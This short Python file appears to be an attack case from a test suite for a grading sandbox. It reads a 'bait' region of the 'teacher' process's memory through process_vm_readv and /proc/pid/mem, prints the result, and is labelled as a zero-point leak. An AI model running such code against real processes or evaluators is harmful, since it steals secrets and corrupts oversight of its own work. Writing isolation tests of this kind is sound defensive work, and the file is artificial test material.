# /// attack
# tries = "Reads the memory of the teacher's process, as a file and by the system call for it."
# points = 0
# shows = ["leak"]
# ///
# %% before count
import ctypes


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None)
vectors = (ctypes.POINTER(Vector), ctypes.c_ulong)
libc.process_vm_readv.argtypes = [ctypes.c_int, *vectors, *vectors, ctypes.c_ulong]
room = ctypes.create_string_buffer(bait["length"])
here = Vector(ctypes.addressof(room), bait["length"])
there = Vector(bait["address"], bait["length"])
libc.process_vm_readv(bait["pid"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
print(room.value.decode(errors="replace"))
with open(f"/proc/{bait['pid']}/mem", "rb", buffering=0) as memory:
    memory.seek(bait["address"])
    print(memory.read(bait["length"]).decode(errors="replace"))
